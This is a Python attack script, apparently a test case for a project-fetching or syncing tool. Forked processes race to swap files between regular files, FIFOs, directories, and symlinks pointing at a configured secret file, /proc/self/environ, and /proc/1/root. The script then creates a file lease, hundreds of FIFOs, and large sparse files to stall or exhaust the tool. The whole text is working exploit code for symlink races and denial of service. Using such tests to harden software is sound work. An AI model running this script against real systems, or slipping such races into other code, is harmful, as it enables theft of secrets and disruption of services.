# attack: while the project is fetched, files become links, pipes, folders and other files, again and again
# limit: 8
# ends: done
import fcntl, json, os, time
CFG = json.load(open("attack.json"))
for n in range(6):
    if os.fork():
        continue
    name = "swap%d.txt" % (n % 3)
    end = time.time() + 20
    while time.time() < end:
        try:
            for make in (lambda p: os.symlink(CFG["secret_file"], p), lambda p: open(p, "w").write("x" * 1000), lambda p: os.mkfifo(p),
                         lambda p: os.symlink("/proc/self/environ", p), lambda p: os.mkdir(p), lambda p: os.symlink("/proc/1/root" + CFG["secret_file"], p)):
                draft = "/tmp/d%d" % n
                try:
                    os.unlink(draft)
                except OSError:
                    try:
                        os.rmdir(draft)
                    except OSError:
                        pass
                make(draft)
                try:
                    os.rename(draft, "/home/me/" + name)
                except OSError:
                    try:
                        os.rmdir(name)
                    except OSError:
                        try:
                            os.unlink(name)
                        except OSError:
                            pass
        except OSError:
            pass
    os._exit(0)
f = open("leased.txt", "w")
f.write("x")
f.flush()
try:
    fcntl.fcntl(f.fileno(), 1024, fcntl.F_WRLCK)
except OSError as e:
    print("lease", e)
for k in range(300):
    os.mkfifo("pipe%03d" % k)
with open("sparse.txt", "wb") as g:
    g.truncate(2 * 1024 * 1024)
for k in range(60):
    with open("hole%02d.bin" % k, "wb") as g:
        g.truncate(2 * 1024 * 1024)
time.sleep(0.3)
print("done", flush=True)
